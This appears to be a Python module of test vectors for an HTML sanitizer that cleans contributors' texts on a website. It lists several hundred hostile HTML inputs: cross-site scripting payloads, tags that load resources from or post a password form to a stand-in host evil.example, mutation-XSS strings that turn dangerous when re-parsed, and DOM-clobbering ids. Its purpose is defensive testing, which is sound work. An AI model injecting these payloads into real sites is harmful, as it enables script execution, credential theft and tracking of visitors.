"""HTML in contributors' texts: what runs, loads, hides, or changes its meaning when read again."""

from __future__ import annotations

from hostile_vectors import make

_IMG = "<img src=x onerror=pwn(1)>"

RUNS = make(
    "script",
    {
        "plain": ("<script>pwn(1)</script>", "<script>pwn(1)</script>"),
        "in mixed case": "<ScRiPt>pwn(1)</sCrIpT>",
        "from elsewhere": "<script/src=//evil.example/x.js></script>",
        "with a slash": "<script/x>pwn(1)</script/x>",
        "on two lines": "<script\n>pwn(1)</script\n>",
        "that nobody closes": "<script>pwn(1)",
        "in two parts": "<scr<script>ipt>pwn(1)</scr</script>ipt>",
        "as a module": "<script type=module>import 'https://evil.example/x.js'</script>",
        "as a map of modules": '<script type=importmap>{"imports":{"a":"//evil.example/a"}}</script>',
        "as rules of speculation": (
            '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>'
        ),
        "in a drawing": "<svg><script>pwn(1)</script></svg>",
        "in a drawing by reference": "<svg><script href=//evil.example/x.js /></svg>",
        "in a formula": "<math><script>pwn(1)</script></math>",
        "in a comment's shadow": "<!--<script>--><script>pwn(1)</script>",
        "image fails": _IMG,
        "image fails, no spaces": "<img/src=x/onerror=pwn(1)>",
        "image fails, other spaces": "<img\x0csrc=x\nonerror\t=\n'pwn(1)'>",
        "image fails, twice": "<img src=x onerror=pwn(1) onerror=1 ONERROR=pwn(1)>",
        "image fails, escaped": "<img src=x onerror=&#112;wn(1)>",
        "image fails, quotes that don't match": '<img src="x\' onerror=pwn(1) "y=z>',
        "image by its old name": "<image src=x onerror=pwn(1)>",
        "drawing loads": "<svg/onload=pwn(1)>",
        "drawing animates": "<svg><animate onbegin=pwn(1) attributeName=x dur=1s></svg>",
        "drawing sets an address": (
            "<svg><a><set attributeName=href to=javascript:pwn(1) /><text y=9>x</text></a></svg>"
        ),
        "drawing holds a page": f"<svg><foreignObject><body>{_IMG}</body></foreignObject></svg>",
        "drawing uses another": (
            "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn(1) "
            'xmlns="http://www.w3.org/2000/svg"/>#x\'/></svg>'
        ),
        "body loads": "<body onload=pwn(1) onpageshow=pwn(1)>",
        "field gets the focus": "<input autofocus onfocus=pwn(1)>",
        "list gets the focus": "<select autofocus onfocus=pwn(1)><option>a</select>",
        "details open": "<details open ontoggle=pwn(1)><summary>s</summary>t</details>",
        "video fails": "<video><source onerror=pwn(1) src=x></video>",
        "audio fails": "<audio src=x onerror=pwn(1) autoplay></audio>",
        "marquee starts": "<marquee onstart=pwn(1)>x</marquee>",
        "animation starts": (
            "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=pwn(1)>x</b>"
        ),
        "visibility changes": (
            "<p style=content-visibility:auto oncontentvisibilityautostatechange=pwn(1)>x</p>"
        ),
        "popover opens": "<button popovertarget=p1>x</button><p popover id=p1 onbeforetoggle=pwn(1)>y",
        "policy is violated": "<p onsecuritypolicyviolation=pwn(1)>x</p>",
        "frame with its own page": f"<iframe srcdoc='{_IMG}'></iframe>",
        "frame with a script": "<iframe src=javascript:parent.pwn(1)></iframe>",
        "frame with data": "<iframe src='data:text/html,<script>parent.pwn(1)</script>'></iframe>",
        "object": "<object data=javascript:pwn(1)></object>",
        "object with data": "<object data='data:text/html,<script>pwn(1)</script>'></object>",
        "embedded": "<embed src=javascript:pwn(1)>",
        "applet": "<applet code=pwn archive=//evil.example/x.jar></applet>",
        "frames of a page": "<frameset onload=pwn(1)><frame src=javascript:pwn(1)></frameset>",
        "form": "<form action=javascript:pwn(1)><button>go</button></form>",
        "button of another form": "<button form=rb-search formaction=javascript:pwn(1)>go</button>",
        "formula with an address": "<math href=javascript:pwn(1)><mi>x</mi></math>",
        "formula with an action": (
            "<math><maction actiontype=statusline xlink:href=javascript:pwn(1)>x</maction></math>"
        ),
        "handler with a long space": f"<b {' ' * 2000}onmouseover=pwn(1)>x</b>",
        "handler in an end tag": "<b>x</b onmouseover=pwn(1)>",
        "unknown element": "<x-pwn onclick=pwn(1) contenteditable autofocus onfocus=pwn(1)>x</x-pwn>",
    },
)

LOADS = make(
    "loading",
    {
        "image": "<img src=https://evil.example/x.png>",
        "image without a scheme": "<img src=//evil.example/x.png>",
        "image with backslashes": r"<img src=\\evil.example\x.png>",
        "images for screens": "<img src=../images/dot.png srcset='//evil.example/x.png 2x' sizes=1px>",
        "picture": "<picture><source srcset=//evil.example/x.png><img src=y></picture>",
        "image with attribution": "<img src=../images/dot.png attributionsrc=//evil.example/>",
        "low resolution": "<img src=../images/dot.png lowsrc=//evil.example/ dynsrc=//evil.example/>",
        "image of a field": "<input type=image src=//evil.example/x.png>",
        "video's poster": "<video poster=//evil.example/x.png></video>",
        "audio": "<audio src=//evil.example/x.mp3 autoplay preload></audio>",
        "subtitles": "<video><track default src=//evil.example/x.vtt></video>",
        "frame": "<iframe src=//evil.example/></iframe>",
        "portal": "<portal src=//evil.example/></portal><fencedframe></fencedframe>",
        "object": "<object data=//evil.example/></object><embed src=//evil.example/>",
        "background of a page": "<body background=//evil.example/x.png>",
        "background of a table": "<table background=//evil.example/><td background=//evil.example/>",
        "background in a style": "<p style='background:url(//evil.example/x.png)'>x</p>",
        "background in an escaped style": r"<p style='background:u\72l(//evil.example/)'>x</p>",
        "image set in a style": "<p style='background:image-set(\"//evil.example/x\" 1x)'>x</p>",
        "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
        "prefetch": "<link rel='prefetch preload dns-prefetch preconnect' href=//evil.example/>",
        "icon": "<link rel='icon manifest' href=//evil.example/x>",
        "style with an import": "<style>@import '//evil.example/x.css';</style>",
        "style with an image": "<style>*{background:url(//evil.example/x.png)}</style>",
        "style with a font": "<style>@font-face{font-family:x;src:url(//evil.example/)}*{font:9px x}</style>",
        "style that nobody closes": "<style>*{background:url(//evil.example/x)}",
        "style in a drawing": "<svg><style>@import '//evil.example/x.css';</style></svg>",
        "image in a drawing": "<svg><image href=//evil.example/x.png width=9 height=9 /></svg>",
        "use in a drawing": "<svg><use xlink:href=//evil.example/x.svg#a /></svg>",
        "filter in a drawing": "<svg><filter><feImage href=//evil.example/x.png /></filter></svg>",
        "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
        "referrer": "<meta name=referrer content=unsafe-url>",
        "base": "<base href=//evil.example/ target=_top>",
        "ping": "<a href=https://example.org ping=//evil.example/>x</a>",
        "download": "<a href=https://example.org download=x.exe>x</a>",
        "form": "<form action=//evil.example/><input name=password type=password><button>go</form>",
        "sources of quotations": (
            "<q cite=//evil.example/>a</q><blockquote cite=javascript:pwn(1)>b</blockquote>"
            "<del cite=//evil.example/>c</del>"
        ),
        "shadow": "<p><template shadowrootmode=open><img src=//evil.example/x></template></p>",
        "long description": "<img src=../images/dot.png longdesc=//evil.example/ usemap=#m>",
        "profile": "<head profile=//evil.example/></head>",
        "manifest": "<html manifest=//evil.example/x>",
        "archive": "<object classid=//evil.example/ codebase=//evil.example/ archive=x></object>",
    },
)

# What a cleaned text becomes when a browser reads it a second time.
MUTATIONS = make(
    "mutation",
    {
        "glyph in a table in a formula": (
            "<math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;img src=x onerror=pwn(1)&gt;">'
        ),
        "style in a drawing after a paragraph": f'<svg></p><style><a id="</style>{_IMG}">',
        "annotation in a formula": (
            f'<math><annotation-xml encoding="text/html"><style><img title="</style>{_IMG}">'
            "</style></annotation-xml></math>"
        ),
        "noscript": f'<noscript><p title="</noscript>{_IMG}">',
        "noscript in a drawing": f'<svg><desc><noscript><p title="</noscript>{_IMG}"></svg>',
        "template in a template": f"<template><s><template><s>{_IMG}</s></template></s></template>",
        "template in a list": (
            f'<select><template><style><!--</style><a rel="--></style></template></select>{_IMG}">'
        ),
        "form around a formula": (
            f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}</style>"
        ),
        "drawing in a cell": f"<table><tr><td><svg><style><td></svg>{_IMG}</style></table>",
        "raw text": f'<xmp><p title="</xmp>{_IMG}">',
        "text area": f'<textarea><b title="</textarea>{_IMG}">',
        "title": f'<title><b title="</title>{_IMG}">',
        "frame": f'<iframe><b title="</iframe>{_IMG}">',
        "no embed": f'<noembed><b title="</noembed>{_IMG}">',
        "no frames": f'<noframes><b title="</noframes>{_IMG}">',
        "listing": f"<listing>&lt;img src=x onerror=pwn(1)&gt;{_IMG}</listing>",
        "plain text": "<plaintext>&lt;script&gt;pwn(1)",
        "list with a style": f"<select><option><style></option></select>{_IMG}</style></option>",
        "title of a drawing": f"<svg><title><style><![CDATA[</title>{_IMG}]]></style></svg>",
        "description of a drawing": f"<svg><desc><![CDATA[</desc>{_IMG}]]></svg>",
        "break with an attribute": f'<br/x="</p>{_IMG}">',
        "links in links": "<a href=https://example.org><a href=javascript:pwn(1)>x</a></a>",
        "image in a table": f"<table>{_IMG}<tr>x<td>y</table>",
        "paragraph in a table": f"<p><table><p>x{_IMG}</table>",
        "formatting over blocks": "<b><i><p onclick=pwn(1)>x</b>y</i>z</p>",
        "ends of the page": "</p></div></article></main></body></html><h1>x</h1>",
        "second page": "<!doctype html><html lang=xx><head><title>x</title></head><body class=y>z",
        "second main part": "</main><main id=rb-main><h1>x</h1></main>",
        "namespaces": "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>pwn(1)</svg:script>",
        "attribute with a namespace": "<svg><a xlink:href=javascript:pwn(1)><text>x</text></a></svg>",
        "quotes of old browsers": "<b title=`` onmouseover=pwn(1)`>x</b>",
        "tag that nobody closes": "x <b title='",
        "tag without an end": "x <img src=x onerror=pwn(1) ",
        "tag within a tag": "<b <img src=x onerror=pwn(1)>>x</b>",
        "brackets": "<<b onclick=pwn(1)>x</b>> < b onclick=pwn(1)> <3 a<b>c</b>",
        "name with a colon": "<a:b onclick=pwn(1)>x</a:b><?a:b?>",
        "processing instruction": f"<?x {_IMG}?>",
        "declaration": f"<!x {_IMG}>",
        "end tag as a comment": f"</ {_IMG}>",
        "end tag with attributes": f"</p title='{_IMG}'>",
        "drawing that leaves itself": f"<svg><b>x</b><p>{_IMG}</p></svg>",
        "ruby": f"<ruby><rt><rtc><rp>{_IMG}</ruby>",
        "nested heading": f"<h1><h2>{_IMG}</h1></h2>",
    },
)

# What takes the place of something, or covers it.
TAKES_PLACES = make(
    "place",
    {
        "id of a landmark": "<p id=rb-main>x</p>",
        "id of a landmark in capitals": "<p ID=RB-MAIN>x</p>",
        "id of a landmark with a space": "<p id=' rb-main'>x</p>",
        "id of a landmark escaped": "<p id='r&#98;-search'>x</p>",
        "ids of properties": "<p id=location>x</p><p id=document>x</p><p id=cookie>x</p>",
        "ids of functions": "<p id=getElementById>x</p><p id=querySelector>x</p><b id=matchMedia>x</b>",
        "ids of objects": "<p id=__proto__>x</p><p id=constructor>x</p><p id=toString>x</p>",
        "id of the search": "<p id=rundbriefSearch>x</p><p id=rundbrief>x</p>",
        "ids twice": "<p id=x9>x</p><p id=x9>y</p>",
        "names": "<img name=body src=../images/dot.png><a name=head>x</a><form name=forms>x</form>",
        "fields as properties": "<form id=f1><input name=action><input id=submit></form>",
        "link as a property": "<a id=defaultView href=https://example.org>x</a>",
        "id with a bracket": "<p id='x]<b>'>x</p>",
        "style that covers": "<p style='position:fixed;inset:0;z-index:9;background:red'>x</p>",
        "style in capitals": "<p STYLE='display:none'>x</p>",
        "classes of the site": "<p class='masthead skip hidden preview internal footer nav'>x</p>",
        "class of a badge": "<p class='badge pill tone-good'>x</p>",
        "class with a tag": "<p class='note\"><script>pwn(1)</script>'>x</p>",
        "class of a language": "<p class='language-\"onclick=pwn(1)'>x</p>",
        "font": "<font color=red size=7 face='x\" onclick=pwn(1)'>x</font><center>y</center>",
        "hidden": "<p hidden>x</p><p inert>y</p><p aria-hidden=true>z</p>",
        "role": "<p role=alert aria-live=assertive>x</p><div role=dialog aria-modal=true>y</div>",
        "label": "<div role=region aria-label='x\" onclick=\"pwn(1)'>x</div>",
        "order of keys": "<div tabindex=99 accesskey=s contenteditable draggable=true>x</div>",
        "size": "<img src=../images/dot.png alt=x width=99999999 height=-1 border=9>",
        "cells": "<table><tr><td colspan=65534 rowspan=65534>x</td></tr></table>",
        "language": "<p lang='x\"onclick=pwn(1)' dir='x' translate=no>x</p>",
        "direction": "<bdo dir=rtl>x</bdo><p dir=rtl>y</p>",
        "second heading": "<h1 id=rb-x>x</h1>",
        "frame name": "<a href=https://example.org target=_top rel=opener>x</a>",
        "microdata": "<p itemscope itemtype=https://schema.org/Person itemprop=name>x</p>",
        "meta for previews": "<meta property=og:title content=x><title>y</title>",
        "dialog": "<dialog open>x</dialog>",
        "progress": "<progress></progress><meter value=1>x</meter>",
        "blink": "<blink>x</blink><marquee>y</marquee>",
    },
)

VECTORS = (*RUNS, *LOADS, *MUTATIONS, *TAKES_PLACES)
